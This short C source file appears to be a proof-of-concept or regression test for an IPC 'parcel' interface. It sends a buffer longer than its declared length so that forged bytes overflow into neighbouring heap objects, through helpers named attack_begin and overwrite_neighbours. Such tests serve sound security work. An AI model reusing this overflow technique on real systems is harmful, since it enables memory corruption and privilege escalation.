// SPDX-License-Identifier: GPL-2.0-only
/*
 * A parcel that is longer than it says: memory is allocated by what the header says, and filled by
 * what the segments say.
 */
#include "neighbours.h"

static int send_more(int file, __u32 box)
{
	char bytes[SIZE + TOO_MANY] = "mine";
	struct parcel_segment segment = { (uintptr_t)bytes, sizeof(bytes) };
	struct parcel_send send = {
		.handle = box,
		.flags = PARCEL_DONTWAIT,
		.segments = (uintptr_t)&segment,
		.nr_segments = 1,
		.length = SIZE,
	};

	memcpy(bytes + SIZE, forged, TOO_MANY);
	return parcel_send_as(file, &send);
}

int main(int argc, char **argv)
{
	attack_begin(argc, argv);
	overwrite_neighbours(send_more);
}
